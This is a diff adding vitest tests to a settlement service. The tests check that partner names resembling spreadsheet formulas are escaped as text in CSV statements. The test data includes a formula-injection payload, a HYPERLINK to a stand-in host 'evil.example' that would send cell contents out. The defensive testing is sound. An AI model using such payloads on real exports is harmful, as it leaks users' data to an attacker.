@@ -1,6 +1,7 @@
 // Coalition settlement: terms, the statement (per partner, matrix, breakage), closing, partner views.
 import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
+import { csvLine } from "../src/lib/csv";
 import { buildStatement } from "../src/settlement/statement";
 import { nextPeriod, periodOf, settlementPeriodFor } from "../src/settlement/periods";
 import { accrue, call, createProgram, enroll, expectLedgerConsistent, redeem, type TestProgram } from "./helpers";
@@ -192,6 +193,49 @@ describe("what a partner sees", () => {
     expect((await call(`/v1/partners/${a.id}/terms`, { key: a.key })).json.data[0].validFrom).toBe(LAST_PERIOD);
   });
 });
+
+describe("the CSV statement", () => {
+  it("writes names that look like formulas as text, not formulas", async () => {
+    const p = await createProgram({ expiry: { policy: "never" } });
+    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned", "Plain, with comma"];
+    for (const name of names) expect((await call("/v1/partners", { key: p.admin, body: { name } })).status).toBe(201);
+    const csv = await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin, headers: { accept: "text/csv" } });
+    expect(csv.status).toBe(200);
+    const text = csv.json as string;
+    const nameCells = parseCsv(text)
+      .filter((row) => row[0] === "partner" && row[1] !== "program")
+      .map((row) => row[2]!);
+    expect(nameCells.sort()).toEqual(
+      ["'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturned", "Plain, with comma", "Partner brand"].sort(),
+    );
+    // Numbers stay numbers, negative ones too.
+    expect(parseCsv(text).every((row) => row.every((cell) => !/^[=+@\t\r]/.test(cell)))).toBe(true);
+  });
+
+  it("keeps a negative amount a number", () => {
+    expect(csvLine(["partner", -525, 0, "-x"])).toBe("partner,-525,0,'-x");
+  });
+});
+
+/** Just enough CSV parsing for the tests: quoted fields, doubled quotes, CRLF rows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ",") row.push(cell), (cell = "");
+    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += ch;
+  }
+  return rows;
+}
 
 describe("reconciliation after random ledgers", () => {
   it.each([1, 2, 3, 4, 5])("reconciles for every partner (seed %i)", async (seed) => {
